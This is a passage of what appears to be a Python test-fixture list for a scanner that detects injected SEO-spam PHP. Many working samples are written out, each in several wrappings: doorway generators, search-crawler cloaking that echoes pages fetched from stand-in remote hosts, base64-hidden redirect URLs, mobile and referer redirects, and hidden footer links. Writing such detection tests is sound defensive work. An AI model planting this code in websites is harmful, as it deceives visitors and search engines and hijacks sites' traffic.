        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        padded(
            "<?php\n$keywords = explode(\"\\n\", file_get_contents(__DIR__ . '/kw.txt'));\n$tpl = file_get_contents(__DIR__ . '/tpl.php');\nforeach ($keywords as $n => $k) {\n    $k = trim($k); if ($k === '') continue;\n    $body = str_replace('[KEYWORD]', $k, $tpl);\n    file_put_contents(__DIR__ . '/' . str_replace(' ', '-', $k) . '.php', $body);\n}\n?>"
        ),
        True,
    ),  # b2_doorway_phpfiles padded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        embedded(
            "<?php\n$keywords = explode(\"\\n\", file_get_contents(__DIR__ . '/kw.txt'));\n$tpl = file_get_contents(__DIR__ . '/tpl.php');\nforeach ($keywords as $n => $k) {\n    $k = trim($k); if ($k === '') continue;\n    $body = str_replace('[KEYWORD]', $k, $tpl);\n    file_put_contents(__DIR__ . '/' . str_replace(' ', '-', $k) . '.php', $body);\n}\n?>"
        ),
        True,
    ),  # b2_doorway_phpfiles embedded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$words = file('words.txt');\nforeach ($words as $w) {\n    $w = trim($w);\n    @mkdir($w);\n    $page = str_replace('{kw}', $w, file_get_contents('http://tpl.example.top/door.html'));\n    file_put_contents($w . '/index.html', $page);\n}\n?>"
        ),
        True,
    ),  # b2_doorway_dirs plain
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        padded(
            "<?php\n$words = file('words.txt');\nforeach ($words as $w) {\n    $w = trim($w);\n    @mkdir($w);\n    $page = str_replace('{kw}', $w, file_get_contents('http://tpl.example.top/door.html'));\n    file_put_contents($w . '/index.html', $page);\n}\n?>"
        ),
        True,
    ),  # b2_doorway_dirs padded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        embedded(
            "<?php\n$words = file('words.txt');\nforeach ($words as $w) {\n    $w = trim($w);\n    @mkdir($w);\n    $page = str_replace('{kw}', $w, file_get_contents('http://tpl.example.top/door.html'));\n    file_put_contents($w . '/index.html', $page);\n}\n?>"
        ),
        True,
    ),  # b2_doorway_dirs embedded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$agent = $_SERVER['HTTP_USER_AGENT'];\nif (preg_match('/(Android|iPhone|iPad|Mobile)/i', $agent) && !isset($_COOKIE['m_r'])) {\n    setcookie('m_r', '1', time() + 86400, '/');\n    header('Location: http://mobi-offer.example.top/?s=' . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_mobile_only_header plain
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        padded(
            "<?php\n$agent = $_SERVER['HTTP_USER_AGENT'];\nif (preg_match('/(Android|iPhone|iPad|Mobile)/i', $agent) && !isset($_COOKIE['m_r'])) {\n    setcookie('m_r', '1', time() + 86400, '/');\n    header('Location: http://mobi-offer.example.top/?s=' . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_mobile_only_header padded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        embedded(
            "<?php\n$agent = $_SERVER['HTTP_USER_AGENT'];\nif (preg_match('/(Android|iPhone|iPad|Mobile)/i', $agent) && !isset($_COOKIE['m_r'])) {\n    setcookie('m_r', '1', time() + 86400, '/');\n    header('Location: http://mobi-offer.example.top/?s=' . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_mobile_only_header embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$srv = 'http://doorway.example.top/x/';\n$page = @file_get_contents($srv . '?domain=' . $_SERVER['SERVER_NAME'] . '&' . $_SERVER['QUERY_STRING']);\nheader('Content-Type: text/html');\necho $page;\n?>"
        ),
        True,
    ),  # b2_proxy_query plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\n$srv = 'http://doorway.example.top/x/';\n$page = @file_get_contents($srv . '?domain=' . $_SERVER['SERVER_NAME'] . '&' . $_SERVER['QUERY_STRING']);\nheader('Content-Type: text/html');\necho $page;\n?>"
        ),
        True,
    ),  # b2_proxy_query padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\n$srv = 'http://doorway.example.top/x/';\n$page = @file_get_contents($srv . '?domain=' . $_SERVER['SERVER_NAME'] . '&' . $_SERVER['QUERY_STRING']);\nheader('Content-Type: text/html');\necho $page;\n?>"
        ),
        True,
    ),  # b2_proxy_query embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$k = base64_decode('Z29vZ2xlYm90');\nif (stripos($_SERVER['HTTP_USER_AGENT'], $k) !== false) {\n    $r = file_get_contents(base64_decode('aHR0cDovL2MuZXhhbXBsZS50b3Av') . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n    echo $r; exit;\n}\n?>"
        ),
        True,
    ),  # b2_bot_b64_ua plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$k = base64_decode('Z29vZ2xlYm90');\nif (stripos($_SERVER['HTTP_USER_AGENT'], $k) !== false) {\n    $r = file_get_contents(base64_decode('aHR0cDovL2MuZXhhbXBsZS50b3Av') . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n    echo $r; exit;\n}\n?>"
        ),
        True,
    ),  # b2_bot_b64_ua padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$k = base64_decode('Z29vZ2xlYm90');\nif (stripos($_SERVER['HTTP_USER_AGENT'], $k) !== false) {\n    $r = file_get_contents(base64_decode('aHR0cDovL2MuZXhhbXBsZS50b3Av') . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n    echo $r; exit;\n}\n?>"
        ),
        True,
    ),  # b2_bot_b64_ua embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$ref = @$_SERVER['HTTP_REFERER'];\nif (preg_match('#(google|bing|yahoo|ask)\\.#i', $ref)) {\n    echo '<html><head><meta http-equiv=\"refresh\" content=\"1; url=http://shop.example.top/?id=' . rand(1, 9) . '\"></head></html>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_js_meta plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$ref = @$_SERVER['HTTP_REFERER'];\nif (preg_match('#(google|bing|yahoo|ask)\\.#i', $ref)) {\n    echo '<html><head><meta http-equiv=\"refresh\" content=\"1; url=http://shop.example.top/?id=' . rand(1, 9) . '\"></head></html>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_js_meta padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$ref = @$_SERVER['HTTP_REFERER'];\nif (preg_match('#(google|bing|yahoo|ask)\\.#i', $ref)) {\n    echo '<html><head><meta http-equiv=\"refresh\" content=\"1; url=http://shop.example.top/?id=' . rand(1, 9) . '\"></head></html>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_ref_js_meta embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (strpos($_SERVER['HTTP_USER_AGENT'], 'YandexBot') !== false) {\n    $h = 'seo.example.top';\n    $s = fsockopen($h, 80);\n    fputs($s, \"GET /y.php?d=\" . $_SERVER['HTTP_HOST'] . \" HTTP/1.1\\r\\nHost: $h\\r\\nConnection: close\\r\\n\\r\\n\");\n    $resp = stream_get_contents($s);\n    fclose($s);\n    echo substr($resp, strpos($resp, \"\\r\\n\\r\\n\") + 4);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_yandex_fsock plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nif (strpos($_SERVER['HTTP_USER_AGENT'], 'YandexBot') !== false) {\n    $h = 'seo.example.top';\n    $s = fsockopen($h, 80);\n    fputs($s, \"GET /y.php?d=\" . $_SERVER['HTTP_HOST'] . \" HTTP/1.1\\r\\nHost: $h\\r\\nConnection: close\\r\\n\\r\\n\");\n    $resp = stream_get_contents($s);\n    fclose($s);\n    echo substr($resp, strpos($resp, \"\\r\\n\\r\\n\") + 4);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_yandex_fsock padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (strpos($_SERVER['HTTP_USER_AGENT'], 'YandexBot') !== false) {\n    $h = 'seo.example.top';\n    $s = fsockopen($h, 80);\n    fputs($s, \"GET /y.php?d=\" . $_SERVER['HTTP_HOST'] . \" HTTP/1.1\\r\\nHost: $h\\r\\nConnection: close\\r\\n\\r\\n\");\n    $resp = stream_get_contents($s);\n    fclose($s);\n    echo substr($resp, strpos($resp, \"\\r\\n\\r\\n\") + 4);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b2_yandex_fsock embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (isCrawler()) {\n    $p = fetchPage('http://content.example.top/api/page?site=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\n    echo $p;\n    exit;\n}\nfunction fetchPage($u) {\n    $ch = curl_init($u);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    curl_setopt($ch, CURLOPT_FOLLOWLOCATION, 1);\n    $r = curl_exec($ch);\n    curl_close($ch);\n    return $r;\n}\nfunction isCrawler() {\n    $a = strtolower($_SERVER['HTTP_USER_AGENT']);\n    foreach (array('googlebot', 'bingbot', 'yandex', 'baiduspider') as $b) { if (strpos($a, $b) !== false) return true; }\n    return false;\n}\n?>"
        ),
        True,
    ),  # b3_func_after_use plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\nif (isCrawler()) {\n    $p = fetchPage('http://content.example.top/api/page?site=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\n    echo $p;\n    exit;\n}\nfunction fetchPage($u) {\n    $ch = curl_init($u);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    curl_setopt($ch, CURLOPT_FOLLOWLOCATION, 1);\n    $r = curl_exec($ch);\n    curl_close($ch);\n    return $r;\n}\nfunction isCrawler() {\n    $a = strtolower($_SERVER['HTTP_USER_AGENT']);\n    foreach (array('googlebot', 'bingbot', 'yandex', 'baiduspider') as $b) { if (strpos($a, $b) !== false) return true; }\n    return false;\n}\n?>"
        ),
        True,
    ),  # b3_func_after_use padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\nif (isCrawler()) {\n    $p = fetchPage('http://content.example.top/api/page?site=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\n    echo $p;\n    exit;\n}\nfunction fetchPage($u) {\n    $ch = curl_init($u);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    curl_setopt($ch, CURLOPT_FOLLOWLOCATION, 1);\n    $r = curl_exec($ch);\n    curl_close($ch);\n    return $r;\n}\nfunction isCrawler() {\n    $a = strtolower($_SERVER['HTTP_USER_AGENT']);\n    foreach (array('googlebot', 'bingbot', 'yandex', 'baiduspider') as $b) { if (strpos($a, $b) !== false) return true; }\n    return false;\n}\n?>"
        ),
        True,
    ),  # b3_func_after_use embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'])) {\n    header('Location: ' . base64_decode('aHR0cHM6Ly9nby5leGFtcGxlLnRvcC8/cj0x'));\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_redirect_b64 plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\nif (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'])) {\n    header('Location: ' . base64_decode('aHR0cHM6Ly9nby5leGFtcGxlLnRvcC8/cj0x'));\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_redirect_b64 padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\nif (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'])) {\n    header('Location: ' . base64_decode('aHR0cHM6Ly9nby5leGFtcGxlLnRvcC8/cj0x'));\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_redirect_b64 embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$kw = isset($_GET['k']) ? $_GET['k'] : 'home';\n$tpl = file_get_contents('http://tpl.example.top/t.php?kw=' . urlencode($kw) . '&host=' . $_SERVER['HTTP_HOST'] . '&p=' . $_SERVER['REQUEST_URI']);\necho $tpl;\n?>"
        ),
        True,
    ),  # b3_get_kw_template plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\n$kw = isset($_GET['k']) ? $_GET['k'] : 'home';\n$tpl = file_get_contents('http://tpl.example.top/t.php?kw=' . urlencode($kw) . '&host=' . $_SERVER['HTTP_HOST'] . '&p=' . $_SERVER['REQUEST_URI']);\necho $tpl;\n?>"
        ),
        True,
    ),  # b3_get_kw_template padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\n$kw = isset($_GET['k']) ? $_GET['k'] : 'home';\n$tpl = file_get_contents('http://tpl.example.top/t.php?kw=' . urlencode($kw) . '&host=' . $_SERVER['HTTP_HOST'] . '&p=' . $_SERVER['REQUEST_URI']);\necho $tpl;\n?>"
        ),
        True,
    ),  # b3_get_kw_template embedded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nadd_action('wp_footer', 'site_footer_links_x');\nfunction site_footer_links_x() {\n    $l = get_transient('fl_x');\n    if (!$l) { $l = @file_get_contents('https://links.example.top/wp.txt'); set_transient('fl_x', $l, 3600); }\n    echo '<div style=\"display:none;\">' . $l . '</div>';\n}\n?>"
        ),
        True,
    ),  # b3_wp_footer_hidden plain
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        padded(
            "<?php\nadd_action('wp_footer', 'site_footer_links_x');\nfunction site_footer_links_x() {\n    $l = get_transient('fl_x');\n    if (!$l) { $l = @file_get_contents('https://links.example.top/wp.txt'); set_transient('fl_x', $l, 3600); }\n    echo '<div style=\"display:none;\">' . $l . '</div>';\n}\n?>"
        ),
        True,
    ),  # b3_wp_footer_hidden padded
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        embedded(
            "<?php\nadd_action('wp_footer', 'site_footer_links_x');\nfunction site_footer_links_x() {\n    $l = get_transient('fl_x');\n    if (!$l) { $l = @file_get_contents('https://links.example.top/wp.txt'); set_transient('fl_x', $l, 3600); }\n    echo '<div style=\"display:none;\">' . $l . '</div>';\n}\n?>"
        ),
        True,
    ),  # b3_wp_footer_hidden embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$agent = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($agent, \"google\") > -1 || strpos($agent, \"bing\") > -1) {\n    $html = file_get_contents(\"http://d.example.top/?\" . http_build_query(array('d' => $_SERVER['HTTP_HOST'], 'u' => $_SERVER['REQUEST_URI'])));\n    echo $html;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_ua_gt_minus1 plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$agent = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($agent, \"google\") > -1 || strpos($agent, \"bing\") > -1) {\n    $html = file_get_contents(\"http://d.example.top/?\" . http_build_query(array('d' => $_SERVER['HTTP_HOST'], 'u' => $_SERVER['REQUEST_URI'])));\n    echo $html;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_ua_gt_minus1 padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$agent = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($agent, \"google\") > -1 || strpos($agent, \"bing\") > -1) {\n    $html = file_get_contents(\"http://d.example.top/?\" . http_build_query(array('d' => $_SERVER['HTTP_HOST'], 'u' => $_SERVER['REQUEST_URI'])));\n    echo $html;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_ua_gt_minus1 embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT']; $rf = @$_SERVER['HTTP_REFERER'];\n$isbot = preg_match('/googlebot|bingbot/i', $ua);\n$fromse = preg_match('/google\\.|bing\\./i', $rf);\n$remote = 'http://door.example.top/gate.php';\nif ($isbot) { echo file_get_contents($remote . '?t=bot&h=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI']); exit; }\nif ($fromse) { header('Location: ' . $remote . '?t=user'); exit; }\n?>"
        ),
        True,
    ),  # b3_referer_then_ua plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT']; $rf = @$_SERVER['HTTP_REFERER'];\n$isbot = preg_match('/googlebot|bingbot/i', $ua);\n$fromse = preg_match('/google\\.|bing\\./i', $rf);\n$remote = 'http://door.example.top/gate.php';\nif ($isbot) { echo file_get_contents($remote . '?t=bot&h=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI']); exit; }\nif ($fromse) { header('Location: ' . $remote . '?t=user'); exit; }\n?>"
        ),
        True,
    ),  # b3_referer_then_ua padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ua = $_SERVER['HTTP_USER_AGENT']; $rf = @$_SERVER['HTTP_REFERER'];\n$isbot = preg_match('/googlebot|bingbot/i', $ua);\n$fromse = preg_match('/google\\.|bing\\./i', $rf);\n$remote = 'http://door.example.top/gate.php';\nif ($isbot) { echo file_get_contents($remote . '?t=bot&h=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI']); exit; }\nif ($fromse) { header('Location: ' . $remote . '?t=user'); exit; }\n?>"
        ),
        True,
    ),  # b3_referer_then_ua embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (!preg_match('/googlebot|bingbot|slurp/i', $_SERVER['HTTP_USER_AGENT'])) {\n    if (preg_match('/google|bing/i', $_SERVER['HTTP_REFERER'])) {\n        echo \"<script>window.location='http://x.example.top/go.php?d=\" . $_SERVER['HTTP_HOST'] . \"';</script>\";\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # b3_cloak_js_redirect_echo plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\nif (!preg_match('/googlebot|bingbot|slurp/i', $_SERVER['HTTP_USER_AGENT'])) {\n    if (preg_match('/google|bing/i', $_SERVER['HTTP_REFERER'])) {\n        echo \"<script>window.location='http://x.example.top/go.php?d=\" . $_SERVER['HTTP_HOST'] . \"';</script>\";\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # b3_cloak_js_redirect_echo padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\nif (!preg_match('/googlebot|bingbot|slurp/i', $_SERVER['HTTP_USER_AGENT'])) {\n    if (preg_match('/google|bing/i', $_SERVER['HTTP_REFERER'])) {\n        echo \"<script>window.location='http://x.example.top/go.php?d=\" . $_SERVER['HTTP_HOST'] . \"';</script>\";\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # b3_cloak_js_redirect_echo embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\nif (strpos($ip, '66.249.') === 0 || stripos($_SERVER['HTTP_USER_AGENT'], 'google') !== false) {\n    $c = @file_get_contents('http://203.0.113.50/p/' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n    echo $c;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_ip_range_google plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\nif (strpos($ip, '66.249.') === 0 || stripos($_SERVER['HTTP_USER_AGENT'], 'google') !== false) {\n    $c = @file_get_contents('http://203.0.113.50/p/' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n    echo $c;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_ip_range_google padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\nif (strpos($ip, '66.249.') === 0 || stripos($_SERVER['HTTP_USER_AGENT'], 'google') !== false) {\n    $c = @file_get_contents('http://203.0.113.50/p/' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\n    echo $c;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_ip_range_google embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (strpos($_SERVER['REQUEST_URI'], 'sitemap') !== false) {\n    header('Content-Type: application/xml');\n    echo file_get_contents('http://map.example.top/sitemap.php?d=' . $_SERVER['HTTP_HOST'] . '&r=' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_sitemap_doorway_dyn plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\nif (strpos($_SERVER['REQUEST_URI'], 'sitemap') !== false) {\n    header('Content-Type: application/xml');\n    echo file_get_contents('http://map.example.top/sitemap.php?d=' . $_SERVER['HTTP_HOST'] . '&r=' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_sitemap_doorway_dyn padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\nif (strpos($_SERVER['REQUEST_URI'], 'sitemap') !== false) {\n    header('Content-Type: application/xml');\n    echo file_get_contents('http://map.example.top/sitemap.php?d=' . $_SERVER['HTTP_HOST'] . '&r=' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_sitemap_doorway_dyn embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$a = @$_SERVER['HTTP_USER_AGENT'];\nif (stristr($a, 'Googlebot') || stristr($a, 'bingbot')) {\n    $res = wp_remote_get('http://wp.example.top/page?d=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI']);\n    $body = wp_remote_retrieve_body($res);\n    echo $body;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_wp_remote_body_var plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$a = @$_SERVER['HTTP_USER_AGENT'];\nif (stristr($a, 'Googlebot') || stristr($a, 'bingbot')) {\n    $res = wp_remote_get('http://wp.example.top/page?d=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI']);\n    $body = wp_remote_retrieve_body($res);\n    echo $body;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_wp_remote_body_var padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$a = @$_SERVER['HTTP_USER_AGENT'];\nif (stristr($a, 'Googlebot') || stristr($a, 'bingbot')) {\n    $res = wp_remote_get('http://wp.example.top/page?d=' . $_SERVER['HTTP_HOST'] . '&u=' . $_SERVER['REQUEST_URI']);\n    $body = wp_remote_retrieve_body($res);\n    echo $body;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_wp_remote_body_var embedded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif (preg_match('/iPhone|Android|webOS|BlackBerry/', $_SERVER['HTTP_USER_AGENT']) && !isset($_COOKIE['_mr'])) {\n    setcookie('_mr', 1, time() + 43200);\n    echo '<meta http-equiv=\"refresh\" content=\"0;url=https://m-prize.example.top/c?o=5\">';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_mobile_meta plain
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        padded(
            "<?php\nif (preg_match('/iPhone|Android|webOS|BlackBerry/', $_SERVER['HTTP_USER_AGENT']) && !isset($_COOKIE['_mr'])) {\n    setcookie('_mr', 1, time() + 43200);\n    echo '<meta http-equiv=\"refresh\" content=\"0;url=https://m-prize.example.top/c?o=5\">';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_mobile_meta padded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        embedded(
            "<?php\nif (preg_match('/iPhone|Android|webOS|BlackBerry/', $_SERVER['HTTP_USER_AGENT']) && !isset($_COOKIE['_mr'])) {\n    setcookie('_mr', 1, time() + 43200);\n    echo '<meta http-equiv=\"refresh\" content=\"0;url=https://m-prize.example.top/c?o=5\">';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b3_mobile_meta embedded
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nif (trim($_SERVER['QUERY_STRING']) == 'sitemap.xml') {\n    $list = explode('|', file_get_contents('http://jp.example.top/v2/urls.php?' . $_SERVER['HTTP_HOST']));\n    header('Content-Type: text/xml');\n    echo '<?xml version=\"1.0\" encoding=\"UTF-8\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach ($list as $l) { echo '<url><loc>' . htmlspecialchars($l) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_sitemap_query plain
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        padded(
            "<?php\nif (trim($_SERVER['QUERY_STRING']) == 'sitemap.xml') {\n    $list = explode('|', file_get_contents('http://jp.example.top/v2/urls.php?' . $_SERVER['HTTP_HOST']));\n    header('Content-Type: text/xml');\n    echo '<?xml version=\"1.0\" encoding=\"UTF-8\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach ($list as $l) { echo '<url><loc>' . htmlspecialchars($l) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_sitemap_query padded
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        embedded(
            "<?php\nif (trim($_SERVER['QUERY_STRING']) == 'sitemap.xml') {\n    $list = explode('|', file_get_contents('http://jp.example.top/v2/urls.php?' . $_SERVER['HTTP_HOST']));\n    header('Content-Type: text/xml');\n    echo '<?xml version=\"1.0\" encoding=\"UTF-8\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n    foreach ($list as $l) { echo '<url><loc>' . htmlspecialchars($l) . '</loc></url>'; }\n    echo '</urlset>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_sitemap_query embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$al = strtolower(@$_SERVER['HTTP_ACCEPT_LANGUAGE']);\n$rf = @$_SERVER['HTTP_REFERER'];\nif (strpos($al, 'ja') === 0 && (stripos($rf, 'yahoo.co.jp') !== false || stripos($rf, 'google.co.jp') !== false)) {\n    echo '<script>location.href=\"http://brand-jp.example.top/?q=' . urlencode($_SERVER['REQUEST_URI']) . '\";</script>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_lang_ja_redirect plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$al = strtolower(@$_SERVER['HTTP_ACCEPT_LANGUAGE']);\n$rf = @$_SERVER['HTTP_REFERER'];\nif (strpos($al, 'ja') === 0 && (stripos($rf, 'yahoo.co.jp') !== false || stripos($rf, 'google.co.jp') !== false)) {\n    echo '<script>location.href=\"http://brand-jp.example.top/?q=' . urlencode($_SERVER['REQUEST_URI']) . '\";</script>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_lang_ja_redirect padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$al = strtolower(@$_SERVER['HTTP_ACCEPT_LANGUAGE']);\n$rf = @$_SERVER['HTTP_REFERER'];\nif (strpos($al, 'ja') === 0 && (stripos($rf, 'yahoo.co.jp') !== false || stripos($rf, 'google.co.jp') !== false)) {\n    echo '<script>location.href=\"http://brand-jp.example.top/?q=' . urlencode($_SERVER['REQUEST_URI']) . '\";</script>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_lang_ja_redirect embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$bot = false;\nforeach (array('Googlebot', 'bingbot', 'Yahoo! Slurp', 'YandexBot') as $s) { if (stripos($_SERVER['HTTP_USER_AGENT'], $s) !== false) $bot = true; }\nif ($bot) {\n    $ctx = @file_get_contents('http://cache.example.top/page/' . md5($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']) . '?h=' . $_SERVER['HTTP_HOST']);\n    if ($ctx) { echo $ctx; exit; }\n}\n?>"
        ),
        True,
